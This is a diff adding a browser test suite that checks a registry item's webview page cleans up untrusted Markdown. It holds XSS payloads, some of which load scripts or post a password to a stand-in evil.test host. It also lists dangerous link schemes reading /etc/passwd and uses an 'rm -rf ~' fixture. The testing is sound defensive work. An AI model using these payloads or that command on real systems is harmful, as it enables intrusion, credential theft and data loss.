@@ -1,0 +1,290 @@
+import assert from 'node:assert/strict';
+import type { Browser } from 'playwright-core';
+import { axeComplaints } from './support/axe';
+import { completeItem, FakeItemHost, ItemPage } from './support/itemPage';
+import { waitUntil } from './support/logPage';
+import { type AppFiles, bundleApp, startBrowser } from './support/webviewPage';
+
+/** What descriptions may be made of on the page. */
+const HARMLESS = new Set(
+  `A ABBR B BLOCKQUOTE BR CODE DD DEL DETAILS DIV DL DT EM H3 H4 H5 H6 HR I INS KBD LI OL P PRE Q S SAMP
+  SPAN STRONG SUB SUMMARY SUP TABLE TBODY TD TFOOT TH THEAD TR UL VAR`.split(/\s+/),
+);
+const ATTRIBUTES = new Set(
+  'aria-label class colspan href open role rowspan start tabindex title'.split(' '),
+);
+const CLASSES = new Set(['', 'image', 'task']);
+
+const ATTACKS: Readonly<Record<string, string>> = {
+  scripts: '<script>pwned = 1</script><script src="https://evil.test/x.js"></script>',
+  handlers:
+    '<img src=x onerror="pwned = 1"><p onclick="pwned = 1" onmouseover="pwned=1">text</p><details open ontoggle="pwned = 1"><summary>s</summary></details>',
+  images:
+    '![a picture](https://evil.test/a.png) <img src="https://evil.test/b.png" srcset="https://evil.test/c.png 2x"> <picture><source srcset="https://evil.test/d.png"><img alt="in picture" src="data:image/png;base64,AAAA"></picture>',
+  styles:
+    '<style>@import "https://evil.test/s.css"; h1 { display: none }</style><p style="position: fixed; inset: 0; background: url(https://evil.test/e.png)">over all</p><link rel="stylesheet" href="https://evil.test/l.css">',
+  frames:
+    '<iframe src="https://evil.test/"></iframe><iframe srcdoc="<script>parent.pwned = 1</script>"></iframe><object data="https://evil.test/o"></object><embed src="https://evil.test/e"><frameset><frame src="https://evil.test/"></frameset>',
+  svg: '<svg onload="pwned = 1"><script>pwned = 1</script><a xlink:href="javascript:pwned=1"><text>t</text></a><foreignObject><img src=x onerror="pwned=1"></foreignObject></svg><math><mtext><table><mglyph><style><img src=x onerror="pwned=1"></style></mglyph></table></mtext></math>',
+  forms:
+    '<form action="https://evil.test/"><input name="password" type="password"><button formaction="https://evil.test/">Sign In</button><textarea></textarea><select><option>1</option></select></form>',
+  pages:
+    '<base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test/"><title>x</title><html><body onload="pwned=1"><template><img src=x onerror="pwned=1"></template>',
+  media:
+    '<video src="https://evil.test/v" poster="https://evil.test/p" autoplay></video><audio src="https://evil.test/a" autoplay></audio><track src="https://evil.test/t">',
+  disguise:
+    '<div class="toolbar failure" role="alert" id="app" data-focus="deploy" aria-label="x" tabindex="5"><h1>Sign in again</h1><button>Deploy to Machine…</button></div><main><h1>Other</h1></main>',
+  clobbering:
+    '<a id="body" name="getElementById">x</a><form id="document"><input name="attributes"><input name="childNodes"></form><img name="querySelectorAll" alt="y">',
+  unclosed:
+    '<div><div><table><tr><td><a href="https://a.test"><img src="x" alt="<script>pwned=1</script>',
+  mutation:
+    '<noscript><p title="</noscript><img src=x onerror=pwned=1>"></noscript><textarea><img title="</textarea><img src=x onerror=pwned=1>"></textarea><xmp><img title="</xmp><img src=x onerror=pwned=1>"></xmp>`<img src=x onerror=pwned=1>`',
+  custom: '<fleetwright-button onclick="pwned=1">Retry</fleetwright-button><x-a is="y">z</x-a>',
+};
+
+const LINKS: readonly string[] = [
+  'javascript:pwned=1',
+  'JaVaScRiPt&colon;pwned=1',
+  'java\tscript:pwned=1',
+  '&#x6A;avascript:pwned=1',
+  'command:workbench.action.closeWindow',
+  'vscode://evil.test/x',
+  'vscode-webview://x/y',
+  'vscode-resource:/etc/passwd',
+  'file:///etc/passwd',
+  'data:text/html,<script>pwned=1</script>',
+  'blob:https://webview.test/x',
+  'ftp://evil.test/',
+  'https://github.com@evil.test/',
+  'https://user:secret@evil.test/',
+  './docs/other.md',
+  '//evil.test/x',
+  '#nowhere',
+];
+
+/** Chromium tells of these while it reads markup into a document that never runs or shows anything. */
+const INERT = /^(?:script-src-attr|style-src-attr|style-src-elem): inline$/;
+
+describe('the page of a registry item, with what strangers write', function () {
+  this.timeout(60_000);
+  let browser: Browser;
+  let files: AppFiles;
+  let host: FakeItemHost;
+  let opened: ItemPage;
+
+  before(async () => {
+    [browser, files] = await Promise.all([startBrowser(), bundleApp('registryItem')]);
+  });
+
+  after(() => browser.close());
+
+  beforeEach(() => {
+    host = new FakeItemHost();
+  });
+
+  afterEach(async () => {
+    const { complaints } = opened.webview;
+    const isPwned = await opened.page.evaluate(() => 'pwned' in window);
+    const frames = opened.page.frames().length;
+    await opened.close();
+    assert.equal(isPwned, false);
+    assert.equal(frames, 1);
+    assert.deepEqual(
+      complaints.filter((complaint) => !INERT.test(complaint)),
+      [],
+    );
+    assert.deepEqual(host.requests, []);
+  });
+
+  async function open(markdown: string): Promise<void> {
+    host.item = { ...completeItem, text: { markdown, isCut: false } };
+    opened = await ItemPage.open(browser, { host, files });
+    await opened.page.locator('h1').waitFor();
+  }
+
+  /** What is on the page and should not be. */
+  async function harm(): Promise<readonly string[]> {
+    const parts = await opened.page.evaluate(() =>
+      [...document.querySelectorAll('.markdown *')].flatMap((part) => [
+        ['element', part.tagName.toUpperCase()] as const,
+        ...[...part.attributes].map(({ name }) => ['attribute', name] as const),
+        ...[part.getAttribute('class') ?? ''].map((name) => ['class', name] as const),
+      ]),
+    );
+    const allowed = { element: HARMLESS, attribute: ATTRIBUTES, class: CLASSES };
+    return parts.filter(([kind, name]) => !allowed[kind].has(name)).map(([, name]) => name);
+  }
+
+  for (const [name, attack] of Object.entries(ATTACKS)) {
+    it(`takes the harm out of ${name}`, async () => {
+      await open(`Before.\n\n${attack}\n\nAfter.\n`);
+      await opened.text.click({ position: { x: 10, y: 10 } });
+      assert.deepEqual(await harm(), []);
+      assert.match(await opened.text.innerText(), /Before\./);
+      assert.equal(await opened.page.locator('h1').innerText(), 'arm');
+      assert.deepEqual(await axeComplaints(opened.page), []);
+    });
+  }
+
+  it('leads nowhere through links that are not safe', async () => {
+    const links = LINKS.map(
+      (link) => `[by Markdown](<${link}>) <a href="${link}">by markup</a> ![image](<${link}>)`,
+    );
+    await open(links.join('\n\n'));
+    assert.deepEqual(
+      await opened.text
+        .locator('a')
+        .evaluateAll((found) => found.map((link) => link.getAttribute('href'))),
+      [],
+    );
+    const written = opened.page.getByText('by markup');
+    for (let index = 0; index < LINKS.length; index += 1) await written.nth(index).click();
+    assert.deepEqual(host.sentOf('openLink'), []);
+  });
+
+  it('tells its host which safe link was chosen, by pointer and by keyboard', async () => {
+    await open('[site](<https://acme.test/a b> "Title") <https://acme.test/c> mail@acme.test');
+    const links = opened.text.locator('a');
+    assert.equal(await links.first().getAttribute('title'), 'https://acme.test/a%20b');
+    await links.first().click();
+    await links.nth(1).focus();
+    await opened.page.keyboard.press('Enter');
+    await links.nth(2).click({ button: 'middle' });
+    await waitUntil(() => host.sentOf('openLink').length === 3);
+    assert.deepEqual(host.sentOf('openLink'), [
+      { url: 'https://acme.test/a%20b' },
+      { url: 'https://acme.test/c' },
+      { url: 'mailto:mail@acme.test' },
+    ]);
+    assert.equal(opened.page.url(), 'https://webview.test/');
+  });
+
+  it('goes to a heading of the same text', async () => {
+    await open(`[go](#the-end)\n\n${'text\n\n'.repeat(100)}\n\n## The End\n\nhere`);
+    await opened.text.locator('a').click();
+    assert.equal(await opened.page.evaluate(() => document.activeElement?.textContent), 'The End');
+    assert.ok((await opened.page.evaluate(() => scrollY)) > 500);
+    assert.deepEqual(host.sentOf('openLink'), []);
+  });
+
+  it('puts words in the place of images', async () => {
+    await open(
+      '![an arm](https://acme.test/arm.png)\n\n[![badge](https://b.test/x.svg)](https://ci.test)',
+    );
+    const [image, badge] = await opened.text.locator('a').all();
+    assert.equal(await image?.innerText(), 'Image: an arm');
+    assert.equal(await image?.getAttribute('title'), 'https://acme.test/arm.png');
+    assert.equal(await badge?.innerText(), 'Image: badge');
+    assert.equal(await badge?.getAttribute('href'), 'https://ci.test/');
+  });
+
+  it('puts headings in the order of the page, whatever their levels', async () => {
+    await open('#### Deep\n\n# Top\n\n###### Under\n\n## Middle\n\n#\n\n<h2></h2>');
+    assert.deepEqual((await opened.headings()).slice(1, 6), [
+      'h2 Description',
+      'h3 Deep',
+      'h3 Top',
+      'h4 Under',
+      'h4 Middle',
+    ]);
+  });
+
+  it('lays tasks, tables and code out', async () => {
+    await open('- [x] did\n- [ ] do\n\n| a | b |\n|--|--|\n| 1 | 2 |\n\n```sh\nrm -rf ~\n```');
+    assert.deepEqual(
+      await opened.text
+        .locator('.task')
+        .evaluateAll((marks) => marks.map((mark) => mark.getAttribute('aria-label'))),
+      ['done', 'not done'],
+    );
+    assert.equal(await opened.text.locator('td').count(), 2);
+    assert.equal((await opened.text.locator('pre').innerText()).trim(), 'rm -rf ~');
+    assert.deepEqual(await axeComplaints(opened.page), []);
+  });
+
+  it('takes the meaning from parts that stand alone', async () => {
+    await open('<li>one</li><dd>two</dd><ul><p>three</p><li>four</li></ul><summary>five</summary>');
+    assert.match(await opened.text.innerText(), /one[^]*two[^]*three[^]*four[^]*five/);
+    assert.equal(await opened.text.locator('li, dd, summary').count(), 0);
+    assert.deepEqual(await axeComplaints(opened.page), []);
+  });
+
+  it('does not let marks of direction turn what stands around them', async () => {
+    await open('see \u202egpj.exe\u202c and `\u2066code\u2069`\n\nשלום');
+    const text = await opened.text.innerText();
+    assert.doesNotMatch(text, /[\u202a-\u202e\u2066-\u2069]/);
+    assert.match(text, /\ufffdgpj\.exe/);
+    const direction = await opened.text
+      .locator('p')
+      .last()
+      .evaluate((paragraph) => getComputedStyle(paragraph).unicodeBidi);
+    assert.equal(direction, 'plaintext');
+  });
+
+  it('keeps what is drawn beyond its lines inside its box', async () => {
+    await open(`a${'\u0301'.repeat(500)}\n\n${'x'.repeat(5_000)}`);
+    assert.equal(await opened.text.evaluate((text) => getComputedStyle(text).contain), 'paint');
+    const overflow = await opened.page.evaluate(
+      () => document.documentElement.scrollWidth - innerWidth,
+    );
+    assert.ok(overflow <= 0);
+  });
+
+  it('shows names of markup as text', async () => {
+    const markup = '<img src=x onerror="pwned=1"><script>pwned=1</script>';
+    host.item = {
+      ...completeItem,
+      ...{ id: markup, name: markup, owner: markup, badges: [markup], description: markup },
+      ...{ deprecated: markup, facts: [{ name: markup, value: markup, isCode: true }] },
+      models: [{ api: markup, model: markup, description: markup }],
+      versions: [{ version: markup, files: [{ platform: markup, size: markup }] }],
+    };
+    opened = await ItemPage.open(browser, { host, files });
+    await opened.page.locator('h1').waitFor();
+    assert.equal(await opened.page.locator('h1').innerText(), markup);
+    assert.equal(await opened.page.locator('img, main script').count(), 0);
+  });
+
+  it('says that a text goes on, and opens all of it', async () => {
+    host.item = { ...completeItem, text: { markdown: 'the beginning', isCut: true } };
+    opened = await ItemPage.open(browser, { host, files });
+    await opened.page.getByText('Only the beginning of this text is shown.').waitFor();
+    await opened.button('Open Whole Text').press('Enter');
+    await waitUntil(() => host.sentOf('openText').length === 1);
+    assert.deepEqual(host.sentOf('openText'), [{}]);
+  });
+
+  const LONG = 100_000;
+  const LONG_TEXTS: Readonly<Record<string, string>> = {
+    brackets: '[',
+    'nested links': '[a](',
+    stars: '*a ',
+    underscores: '_a',
+    backticks: '`a``',
+    quotes: '> ',
+    lists: '- ',
+    'nested lists': '* a\n ',
+    pipes: '|',
+    tags: '<a ',
+    comments: '<!--',
+    entities: '&amp',
+    emails: 'a@',
+    autolinks: 'http://a.',
+    tildes: '~~a',
+    escapes: '\\',
+    'reference definitions': '[a]: b\n',
+    'html blocks': '<div>\n',
+    'table rows': 'a|b\n-|-\n',
+    spaces: ' \t',
+  };
+  for (const [name, piece] of Object.entries(LONG_TEXTS)) {
+    it(`stays at work with long texts of ${name}`, async () => {
+      const began = Date.now();
+      await open(piece.repeat(Math.ceil(LONG / piece.length)).slice(0, LONG));
+      await opened.text.waitFor();
+      // Less than a second on an idle machine; without bounds it would be minutes.
+      assert.ok(Date.now() - began < 20_000, `${String(Date.now() - began)} ms`);
+    });
+  }
+});
